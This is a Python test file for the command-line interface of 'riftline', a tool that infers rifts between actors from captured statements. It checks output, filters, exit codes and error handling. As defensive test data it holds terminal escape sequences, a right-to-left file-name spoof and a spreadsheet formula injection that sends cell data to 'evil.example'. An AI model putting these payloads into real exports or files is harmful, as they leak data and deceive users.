"""The commands over a made-up case: what they print, where, and with which exit code."""

from __future__ import annotations

import importlib.util
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

import riftline.case
from riftline import errors
from riftline.cli import app, plain, progress
from riftline.cli.progress import Progress, Waiting, so_far
from riftline.model import Decision, Driver, Issue, Source, Step

HERE = Path(__file__).parent


def load_made() -> ModuleType:
    path = HERE / "export" / "made.py"
    spec = importlib.util.spec_from_file_location("riftline_made_case_for_cli", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


MADE = load_made()


@dataclass
class FakeCase:
    """A case with a fixed snapshot that remembers what was asked of it."""

    name: str = "Made\x1b case"
    asked: dict[str, Any] = field(default_factory=dict)
    bad: tuple[Issue, ...] = ()
    raises: BaseException | None = None

    def __enter__(self) -> FakeCase:
        return self

    def __exit__(self, *_: object) -> None:
        self.asked["closed"] = True

    def snapshot(self, as_of: str | None = None) -> Any:
        if self.raises:
            raise self.raises
        return replace(MADE.SNAPSHOT, _index={})

    def ruled(self) -> Any:
        return self.snapshot()

    def drivers(self, a: str, b: str, as_of: str | None = None) -> tuple[Driver, ...]:
        told = f"{MADE.FORMULA} leaves, 2031-01-05: 12 days before."
        return (Driver("act", told, ("s1",), 0.25, "2031-01-05", 12, ("act-n",)),)

    def status(self, as_of: str | None = None) -> dict[str, int]:
        return {
            "captures": 2, "documents": 2, "statements": 4, "actors": 4, "decisions": 2,
            "issues": 2,
        }  # fmt: skip

    def add(self, paths: Any, *, workers: Any = None, progress: Any = None, who: str = "") -> Any:
        self.asked["add"] = list(paths)
        self.asked["who"] = who
        self.asked["workers"] = workers
        return riftline.case.Added(1, 2, 3, 4, 5)

    def why(self, id_: str) -> tuple[Step, ...]:
        if id_ != "s1":
            raise errors.NotFound(f"no statement {id_!r}")
        return (Step("verb.accuse", "saw \x1b]0;title\x07accused", 0.8), Step("noun", "abstained"))

    def find(self, query: str, *, limit: int, order: str) -> Any:
        from riftline.case.rows import Facet, FacetValue
        from riftline.case.search import Found
        from riftline.store import Hit

        self.asked["search"] = (query, limit, order)
        hits = (Hit("doc1", None, "the truce", 2.5), Hit("doc2", "s2", MADE.FORMULA, 1.0))
        facet = Facet("source", (FacetValue("a", MADE.FORMULA, 2),))
        return Found(query, 2, False, "best", 0, hits, (facet,))

    def decide(self, decision: Decision) -> Decision:
        self.asked["decide"] = decision
        return replace(decision, id="d9", at="2031-07-01T00:00:00+00:00")

    def verify(self) -> Any:
        return riftline.case.Verified(2, self.bad)


@pytest.fixture
def case(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeCase]:
    fake = FakeCase()
    monkeypatch.setattr(riftline.case, "open_case", lambda _path: fake)
    yield fake


def run(*args: str, **env: str) -> Result:
    return CliRunner().invoke(app, list(args), env={"COLUMNS": "200", "USER": "ann", **env})


def printed(result: Result) -> Any:
    """Standard output as one line of JSON."""
    assert result.exit_code == 0, result.stderr
    assert result.stdout.endswith("\n")
    assert result.stdout.count("\n") == 1
    return json.loads(result.stdout)


# --- text that was captured -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("captured", "shown"),
    [
        ("North Brigade", "North Brigade"),
        ("\x1b[31mred\x1b[0m", "[31mred[0m"),
        ("\x9b2Jgone", "2Jgone"),
        ("\x1b]0;title\x07x", "]0;titlex"),
        ("one\r\ntwo\tthree\x85four", "one  two three four"),
        ("gnp\u202egpj.exe\u2066", "gnpgpj.exe"),
        ("a\u200bb\ufeffc\U000e0041d", "abcd"),
        ("می‌خواهم", "می‌خواهم"),
        ("\ud800x", "\ufffdx"),
        ("[bold]not markup[/bold] :smile:", "[bold]not markup[/bold] :smile:"),
    ],
)
def test_plain(captured: str, shown: str) -> None:
    assert plain(captured) == shown


@given(st.text())
def test_plain_leaves_nothing_that_a_terminal_obeys(text: str) -> None:
    shown = plain(text)
    assert not re.search(
        "[\x00-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f]", shown
    )
    assert plain(shown) == shown
    shown.encode("utf-8")


@pytest.mark.parametrize(
    "args",
    [
        ["status", "c"], ["actors", "c"], ["statements", "c"], ["issues", "c"],
        ["pair", "c", "act-n", "act-v"], ["why", "c", "s1"], ["search", "c", "truce"],
        ["verify", "c"],
    ],
)  # fmt: skip
@pytest.mark.parametrize("flags", [[], ["--json"]])
def test_hostile_text_does_not_reach_the_terminal(
    case: FakeCase, args: list[str], flags: list[str]
) -> None:
    case.bad = (Issue("capture-changed", MADE.ESCAPES, MADE.ESCAPES, do=MADE.ESCAPES),)
    result = run(*args, *flags)
    assert result.exit_code in (0, 10), result.stderr
    assert result.stdout
    raw = result.stdout + result.stderr
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", raw)


def test_json_gives_hostile_text_back_whole(case: FakeCase) -> None:
    found = printed(run("actors", "c", "--json"))["actors"]
    assert {a["id"]: a["name"] for a in found}["act-r"] == MADE.ESCAPES


def test_markup_in_captured_text_stays_text(case: FakeCase) -> None:
    out = run("statements", "c", "--target", "act-r").stdout
    assert MADE.MARKUP in out


# --- looking ----------------------------------------------------------------------------------


def test_status_counts(case: FakeCase) -> None:
    assert printed(run("status", "c", "--json")) == {
        "version": 1, "name": "Made\x1b case", "revision": 7, "as_of": None, "captures": 2,
        "documents": 2, "statements": 4, "actors": 4, "decisions": 2, "issues": 2,
    }  # fmt: skip
    words = run("status", "c").stdout
    assert re.search(r"statements\s+4\n", words)
    assert re.search(r"North Brigade\s.*\srift\s+2031-01 … 2031-03\s+0\.83\s+3\s+4\n", words)


def test_status_tells_the_list_of_rifts_and_its_expected_error(
    case: FakeCase, monkeypatch: pytest.MonkeyPatch
) -> None:
    (rift,) = MADE.SNAPSHOT.trends
    two = (replace(rift, doubt=0.04, listed=True), replace(rift, a="act-r", doubt=0.4))
    monkeypatch.setattr(MADE, "SNAPSHOT", replace(MADE.SNAPSHOT, trends=two, _index={}))
    words = " ".join(run("status", "c").stdout.split())
    assert (
        "Rifts, most changed first (1; of such a list 4% are expected to be none; 1 too doubtful"
        in words
    )
    assert words.index("Rifts, most changed") < words.index("Other pairs, most changed first:")


def test_actors_name_all_names(case: FakeCase) -> None:
    lines = run("actors", "c").stdout.splitlines()
    assert re.fullmatch(r"North Brigade\s+group\s+4\s+Северная бригада\s+act-n\s*", lines[2])
    found = printed(run("actors", "c", "--json"))["actors"][0]
    assert list(found) == ["id", "name", "kind", "names", "keys", "statements"]
    assert found["names"][0]["span"] == [0, 13]


@pytest.mark.parametrize(
    ("options", "ids"),
    [
        ([], ["s1", "s2", "s3", "s4"]),
        (["--speaker", "north BRIGADE"], ["s1", "s3", "s4"]),
        (["--speaker", "Северная бригада", "--act", "accuse"], ["s1", "s4"]),
        (["--target", "Valley Front"], ["s1", "s4"]),
        (["--since", "2031-03"], ["s2", "s3"]),
        (["--since", "2031", "--until", "2031-01"], ["s1"]),
        (["--until", "2031-03-02"], ["s1", "s2"]),
        (["--since", "2031-03-03", "--until", "2031-03-03"], ["s3"]),
        (["--act", "allied-with"], ["s3"]),
        (["--act", "MERGE"], []),
        (["--limit", "2"], ["s1", "s2"]),
    ],
)
def test_statements_match_all_that_is_given(
    case: FakeCase, options: list[str], ids: list[str]
) -> None:
    result = run("statements", "c", *options, "--json")
    found = printed(result)
    assert [s["id"] for s in found["statements"]] == ids
    assert found["total"] == (4 if "--limit" in options else len(ids))
    assert ("no statement here has the act MERGE" in result.stderr) == ("MERGE" in options)


def test_a_statement_knows_its_case(case: FakeCase) -> None:
    found = printed(run("statements", "c", "--json"))["statements"]
    assert found[0]["said"] == "2031-01-05"
    assert found[0]["actors"] == {"speaker": "act-n", "subject": "act-n", "target": "act-v"}
    assert found[0]["uri"] == "https://tidewater.example/a?x=1|2"
    assert found[3]["first"] == "s1"
    assert found[3]["said"] is None


def test_a_statement_in_words(case: FakeCase) -> None:
    out = run("statements", "c", "--speaker", "Valley Front").stdout
    assert out == (
        '2031-03-02  =HYPERLINK("http://evil.example/?"&A1,"open") — THREATEN → North Brigade\n'
        '    “=HYPERLINK("http://evil.example/?"&A1,"open")”\n'
        "    cue “accused”; indirect; via Tidewater | News; when 2031-03-02 (“on March 2”); "
        "stance -0.50; hedged “apparently”, “a|b\\c”; claimed; confidence 0.80 by made; id s2\n"
        "\n"
    )


def test_an_ambiguous_name_lists_the_candidates(case: FakeCase) -> None:
    result = run("statements", "c", "--speaker", "guard")
    assert result.exit_code == 4
    assert result.stdout == ""
    assert "'guard' may be 2 actors" in result.stderr
    assert "id act-r" in result.stderr
    assert "id act-g" in result.stderr


def test_an_unknown_name_says_what_is_near(case: FakeCase) -> None:
    result = run("pair", "c", "North Brigad", "act-v")
    assert result.exit_code == 4
    assert "'North Brigade'" in result.stderr


def test_issues(case: FakeCase) -> None:
    found = printed(run("issues", "c", "--json"))["issues"]
    assert [i["code"] for i in found] == ["undated", "vanished"]
    only = run("issues", "c", "--code", "vanished")
    assert only.stdout == "vanished  posts/=gone.txt: the file could not be opened\n"
    assert only.stderr == "1 issue\n"


def test_why(case: FakeCase) -> None:
    assert printed(run("why", "c", "s1", "--json"))["steps"][1] == {
        "rule": "noun",
        "said": "abstained",
        "score": None,
    }
    assert re.search(r"verb\.accuse\s+saw \]0;titleaccused\s+0\.80", run("why", "c", "s1").stdout)
    assert run("why", "c", "nobody").exit_code == 4


def test_search_joins_its_words(case: FakeCase) -> None:
    found = printed(run("search", "c", '"the truce"', "convoy*", "--limit", "7", "--json"))
    assert case.asked["search"] == ('"the truce" convoy*', 7, "best")
    assert (found["total"], found["more"], found["facets"][0]["values"][0]["n"]) == (2, False, 2)
    assert [(h["document_id"], h["statement_id"]) for h in found["hits"]] == [
        ("doc1", None),
        ("doc2", "s2"),
    ]
    assert found["hits"][1]["uri"] == "file:///posts/2"
    assert "document doc1" in run("search", "c", "truce").stdout
    run("search", "c", "truce", "speaker:North Brigade", "--order", "newest")
    assert case.asked["search"] == ('truce speaker:"North Brigade"', 50, "newest")
    assert "expected: best, newest" in run("search", "c", "truce", "--order", "worst").stderr


# --- pair -------------------------------------------------------------------------------------


def test_pair_is_the_contract(case: FakeCase) -> None:
    found = printed(run("pair", "c", "North Brigade", "Valley Front", "--json"))
    assert list(found) == [
        "version", "a", "b", "verdict", "called", "doubt", "listed", "p_widening", "onset",
        "breaks", "course", "drivers", "why", "behind", "states", "tellings", "independent",
        "carriers", "coverage", "statements", "as_of", "known_now",
    ]  # fmt: skip
    assert found["a"] == {"id": "act-n", "name": "North Brigade"}
    assert found["b"] == {"id": "act-v", "name": MADE.FORMULA}
    assert found["onset"] == {"earliest": "2031-01", "latest": "2031-03", "probability": 0.71}
    assert found["breaks"] == [{**found["onset"], "direction": "worse"}]
    assert found["course"][2] == {
        "period": "2031-03", "mean": 0.7, "low": 0.3, "high": 0.95, "hostile": 1.0,
        "friendly": 0.1, "neutral": 0.1, "independent": 2, "carriers": 2,
        "statements": ["s2", "s4"],
    }  # fmt: skip
    assert (found["verdict"], found["p_widening"], found["drivers"]) == ("rift", 0.83, ["s2"])
    assert (found["called"], found["listed"]) == ("possible rift", False)
    assert found["coverage"]["months"][1] == {
        "period": "2031-02", "documents": 0, "sources": 0, "statements": 0,
    }  # fmt: skip
    assert [s["id"] for s in found["statements"]] == ["s1", "s4", "s2"]
    listed = {s["id"] for s in found["statements"]}
    assert {i for p in found["course"] for i in p["statements"]} <= listed


def test_pair_in_words(case: FakeCase) -> None:
    out = run("pair", "c", "North Brigade", "Valley Front").stdout
    assert out.startswith(f"North Brigade and {MADE.FORMULA}: possible rift\n")
    assert (
        "onset 2031-01 … 2031-03 (probability 0.71, likely); P(widening) 0.83, very likely\n" in out
    )
    assert "3 independent statements, 4 carriers; coverage: 2 documents from 2 sources, " in out
    assert "1 of 3 months silent, 0 documents undated" in out
    assert re.search(r"2031-03\s+1\.00\s+0\.10\s+0\.10\s+2\s+2\s+0\.70\s+0\.30–0\.95", out)
    assert out.count("  id s") + out.count("; id s") == 3
    assert "What it rests on, and what came before (not what caused it)\n  act  " in out
    limited = " ".join(run("pair", "c", "act-n", "act-v", "--limit", "1").stdout.split())
    assert ", 1 of 2 statements: 1 independent, 1 carrier" in limited


def test_a_pair_that_nothing_connects(case: FakeCase) -> None:
    found = printed(run("pair", "c", "act-v", "act-r", "--json"))
    assert (found["verdict"], found["course"], found["onset"]) == ("not enough evidence", [], None)
    assert found["coverage"]["documents"] == 2
    assert "Nothing in this case connects them." in run("pair", "c", "act-v", "act-r").stdout


def test_a_pair_of_one_actor_is_refused(case: FakeCase) -> None:
    result = run("pair", "c", "North Brigade", "Северная бригада")
    assert result.exit_code == 2
    assert "one actor" in result.stderr


# --- ruling -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "wanted"),
    [
        (["same", "North Brigade", "Valley Front"], ("same", "north brigade", "valley front")),
        (["different", "North Brigade", "Северная бригада"],
         ("different", "north brigade", "северная бригада")),
        (["unsure", "act-n", "act-g"], ("unsure", "north brigade", "guard")),
        (["not-an-actor", "act-r"], ("not-an-actor", "reed guard", "")),
        (["wrong", "s1"], ("wrong", "s1", "")),
        (["right", "s1"], ("right", "s1", "")),
        (["withdraw", "d1"], ("withdraw", "d1", "")),
        (["different", "s1", "s2", "--field", "copy"], ("different", "s1", "s2")),
        (["same", "s1", "s2", "--field", "copy"], ("same", "s1", "s2")),
    ],
)  # fmt: skip
def test_decide(case: FakeCase, args: list[str], wanted: tuple[str, str, str]) -> None:
    kept = printed(run("decide", "c", *args, "--why", " because ", "--json"))["decision"]
    ruled = case.asked["decide"]
    assert (ruled.kind, ruled.left, ruled.right) == wanted
    assert (ruled.who, ruled.why) == ("ann", "because")
    assert kept["id"] == "d9"


def test_decide_is_signed_by_whoever_is_named(case: FakeCase) -> None:
    assert run("decide", "c", "wrong", "s1", "--who", "bo").exit_code == 0
    assert case.asked["decide"].who == "bo"


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["same", "North Brigade"], 2),
        (["wrong", "s1", "s2"], 2),
        (["same", "North Brigade", "north brigade"], 2),
        (["same", "North Brigade", "guard"], 4),
        (["maybe", "s1"], 2),
        (["unsure", "s1", "s2", "--field", "copy"], 2),
        (["same", "s1", "s2", "--field", "copy", "--value", "x"], 2),
        (["same", "s1", "s2", "--field", "kind"], 2),
    ],
)
def test_decide_refuses(case: FakeCase, args: list[str], code: int) -> None:
    result = run("decide", "c", *args)
    assert result.exit_code == code
    assert result.stderr
    assert "decide" not in case.asked


# --- adding -----------------------------------------------------------------------------------


def test_add_hands_on_paths_as_they_are(case: FakeCase, tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("a")
    found = printed(run("add", "c", str(tmp_path), str(tmp_path / "a.txt"), "--json"))
    assert case.asked["add"] == [tmp_path, tmp_path / "a.txt"]
    assert found == {
        "version": 1, "captures": 1, "documents": 2, "statements": 3, "unchanged": 4, "issues": 5,
        "readers": {}, "kinds": {},
    }  # fmt: skip


def test_add_hands_on_what_the_user_says(case: FakeCase, tmp_path: Path) -> None:
    result = run(
        "add", "c", str(tmp_path), "--published", "2031-03-04 10:00+03:00", "--publisher", "Post",
        "--author", "Ann", "--workers", "1",
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert case.asked["add"] == [
        Source(str(tmp_path), published="2031-03-04T10:00+03:00", publisher="Post", author="Ann")
    ]
    assert case.asked["workers"] == 1
    assert result.stdout.startswith(
        "1 capture new, 4 unchanged: 2 documents, 3 statements, 5 issues read"
    )
    assert "riftline issues c" in result.stderr


@pytest.mark.parametrize(
    "date", ["2031", "2031-03", "2031-03-04", "2031-03-04T10:00", "2031-03-04T10:00:59.5Z"]
)
def test_published_takes_dates(case: FakeCase, tmp_path: Path, date: str) -> None:
    assert run("add", "c", str(tmp_path), "--published", date).exit_code == 0
    assert case.asked["add"][0].published == date


@pytest.mark.parametrize(
    "date",
    [
        "", "yesterday", "31", "2031-3-4", "2031-02-30", "2031-13", "0000", "2031-03-04T25:00",
        "2031~", "2031-03-XX", "2031-03/2031-04", "04.03.2031", "٢٠٣١", "2031-03-04T10:00+99:00",
    ],
)  # fmt: skip
def test_published_refuses_what_is_no_date(case: FakeCase, tmp_path: Path, date: str) -> None:
    result = run("add", "c", str(tmp_path), "--published", date)
    assert result.exit_code == 2
    assert "is no date" in result.stderr
    assert "add" not in case.asked


def test_a_path_that_is_not_there_is_named_before_anything_runs(case: FakeCase) -> None:
    result = run("add", "c", "no/such\x1bfile")
    assert result.exit_code == 2
    assert result.stderr.startswith("riftline: nothing is at no/suchfile\n")
    assert "add" not in case.asked


# --- checking and handing on ------------------------------------------------------------------


def test_verify(case: FakeCase) -> None:
    assert printed(run("verify", "c", "--json")) == {
        "version": 1, "checked": 2, "bad": [], "stamped": [],
    }  # fmt: skip
    case.bad = (Issue("capture-missing", "a.txt", "no file"),)
    result = run("verify", "c")
    assert result.exit_code == 10
    assert result.stdout == "capture-missing  a.txt: no file\n2 captures checked, 1 bad\n"
    told = run("verify", "c", "--json")
    assert told.exit_code == 10
    assert json.loads(told.stdout)["bad"][0]["code"] == "capture-missing"


@pytest.mark.parametrize("format_", ["csv", "gexf"])
def test_export(case: FakeCase, tmp_path: Path, format_: str) -> None:
    out = tmp_path / "out"
    found = printed(run("export", "c", "--format", format_, "-o", str(out), "--json"))
    assert sorted(found["files"]) == sorted(str(p) for p in out.iterdir())
    assert found["files"]


def test_export_refuses_unknown_formats_and_names_the_known(case: FakeCase, tmp_path: Path) -> None:
    result = run("export", "c", "--format", "xls", "-o", str(tmp_path))
    assert result.exit_code == 2
    assert "expected: one of annotations, claims, csv, " in result.stderr


def test_export_says_what_the_disk_says(case: FakeCase, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    result = run("export", "c", "--format", "csv", "-o", str(tmp_path / "file" / "deeper"))
    assert result.exit_code == 6
    assert "Not a directory" in result.stderr


# --- exams ------------------------------------------------------------------------------------


@pytest.fixture
def exam(monkeypatch: pytest.MonkeyPatch) -> ModuleType:
    """An exam that is called with what the command line makes of its arguments."""

    module = ModuleType("riftline.exams.made")
    monkeypatch.setitem(__import__("sys").modules, "riftline.exams.made", module)
    module.__spec__ = importlib.util.spec_from_loader("riftline.exams.made", None)
    return module


def test_eval_prints_the_figures(exam: ModuleType, tmp_path: Path) -> None:
    exam.score = lambda data: {"f1": 0.5, "n": 2, "p": float("nan"), "at": str(data)}  # type: ignore[attr-defined]
    found = printed(run("eval", "made", str(tmp_path), "--json"))
    assert found == {"f1": 0.5, "n": 2, "p": None, "at": str(tmp_path)}
    assert re.search(r"f1\s+0\.5000", run("eval", "made", str(tmp_path)).stdout)
    exam.report = lambda scores: f"F1 {scores['f1']}"  # type: ignore[attr-defined]
    assert run("eval", "made", str(tmp_path)).stdout == "F1 0.5\n"
    assert run("eval", "made").exit_code == 2
    assert run("eval", "made", str(tmp_path / "gone")).exit_code == 2
    assert run("eval", "made", str(tmp_path), "--truth", "x").exit_code == 2


def test_eval_needs_no_data_where_the_exam_makes_its_own(exam: ModuleType) -> None:
    exam.score = lambda data=None: {"data": data}  # type: ignore[attr-defined]
    assert printed(run("eval", "made", "--json")) == {"data": None}


def test_eval_of_a_case_takes_its_truth(exam: ModuleType, case: FakeCase, tmp_path: Path) -> None:
    def score_case(snapshot: Any, documents: Any, truth: Path) -> dict[str, Any]:
        return {"documents": sorted(documents), "truth": truth.name, "n": len(snapshot.documents)}

    exam.score_case = score_case  # type: ignore[attr-defined]
    case.document = lambda id_: id_  # type: ignore[attr-defined]
    assert run("eval", "made", str(tmp_path)).exit_code == 2
    (tmp_path / "t.toml").write_text("")
    found = printed(
        run("eval", "made", str(tmp_path), "--truth", str(tmp_path / "t.toml"), "--json")
    )
    assert found == {"documents": ["doc1", "doc2"], "truth": "t.toml", "n": 2}


@pytest.mark.parametrize("task", ["nothing", "../x", "spans", "floors", "A", ""])
def test_eval_lists_the_known_tasks(task: str) -> None:
    result = run("eval", task, ".")
    assert result.exit_code == 2
    assert re.search(r"expected: one of (.*, )?attribution", result.stderr)
    assert "spans" not in result.stderr.split("expected")[1]


# --- trouble ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "error",
    [e for e in vars(errors).values() if isinstance(e, type) and issubclass(e, Exception)],
)
def test_every_error_has_its_exit_code(case: FakeCase, error: type[errors.RiftlineError]) -> None:
    case.raises = error("seen \x1b[2J this", expected="that", do="something")
    result = run("status", "c", "--json")
    assert result.exit_code == error.exit_code
    assert result.stdout == ""
    assert result.stderr == ("riftline: seen [2J this\n  expected: that\n  to do: something\n")


def test_a_fault_is_one_line_and_code_1(case: FakeCase) -> None:
    case.raises = ValueError("bad \x1b[2J thing")
    result = run("status", "c")
    assert result.exit_code == 1
    assert re.match(
        r"riftline: a fault of its own in test_cli\.py:\d+: ValueError: bad \[2J thing\n",
        result.stderr,
    )


def test_a_fault_is_whole_where_the_user_asks(case: FakeCase) -> None:
    case.raises = ValueError("bad")
    assert isinstance(run("status", "c", RIFTLINE_TRACEBACK="1").exception, ValueError)


def test_ctrl_c_is_130_and_closes_the_case(case: FakeCase) -> None:
    case.raises = KeyboardInterrupt()
    result = run("status", "c")
    assert (result.exit_code, result.stderr) == (130, "Stopped.\n")
    assert case.asked["closed"]


def test_a_closed_pipe_is_quiet(case: FakeCase, monkeypatch: pytest.MonkeyPatch) -> None:
    from riftline.cli import door

    monkeypatch.setattr(door, "_drop_output", lambda: None)
    case.raises = BrokenPipeError()
    result = run("status", "c")
    assert (result.exit_code, result.stdout, result.stderr) == (141, "", "")


def test_a_folder_that_is_no_case(tmp_path: Path) -> None:
    result = run("status", str(tmp_path))
    assert result.exit_code == 3
    assert "riftline init" in result.stderr


# --- hosts ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "host", ["0.0.0.0", "::", "192.168.1.4", "example.org", "", "127.0.0.1.example.org", "127.1"]
)
def test_serve_refuses_other_hosts(case: FakeCase, host: str) -> None:
    result = run("serve", "c", "--host", host, "--no-open")
    assert result.exit_code == 2
    assert "loopback" in result.stderr


def test_serve_takes_the_next_free_port_and_refuses_a_taken_one() -> None:
    from riftline.cli.serve import PORT, _address, _listen

    with _listen("127.0.0.1", 0) as first, _listen("127.0.0.1", 0) as second:
        one, two = first.getsockname()[1], second.getsockname()[1]
        assert PORT <= one < two
        assert _address(second) == f"http://127.0.0.1:{two}/"
        with pytest.raises(errors.UsageError, match=f"port {one} on 127"):
            _listen("127.0.0.1", one)


# --- progress ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("done", "total", "seconds", "words"),
    [
        (40, 100, 5.0, "reading: 40 of 100 files, 8.0 a second, about 8 s left"),
        (40, None, 5.0, "reading: 40 files, 8.0 a second"),
        (0, 100, 5.0, "reading: 0 of 100 files, 0.0 a second"),
        (3, 3, 0.0, "reading: 3 of 3 files, 0.0 a second"),
    ],
)
def test_so_far(done: int, total: int | None, seconds: float, words: str) -> None:
    assert so_far("reading", done, total, seconds) == words


def test_progress_waits_then_speaks_now_and_then(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    clock = iter([0.0, 1.9, 2.5, 5.0, 12.0, 12.6])
    monkeypatch.setattr("riftline.cli.progress.time.monotonic", lambda: next(clock))
    with Progress("reading") as told:
        for done in range(1, 6):
            told(done, 10, "path")
    out, err = capsys.readouterr()
    assert out == ""
    assert err.splitlines() == [
        "reading: 2 of 10 files, 0.8 a second, about 10 s left",
        "reading: 5 of 10 files, 0.4 a second, about 13 s left",
    ]


def test_waiting_is_silent_when_it_is_short(capsys: pytest.CaptureFixture[str]) -> None:
    with Waiting("computing"):
        pass
    assert capsys.readouterr() == ("", "")


def test_waiting_speaks_on_standard_error_when_it_is_long(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(Waiting, "patience", 0.0)
    spoken = threading.Event()
    real = progress.say

    def say(words: str) -> None:
        real(words)
        spoken.set()

    monkeypatch.setattr(progress, "say", say)
    with Waiting("computing"):
        assert spoken.wait(30)
    assert capsys.readouterr() == ("", "computing: 0 s\n")
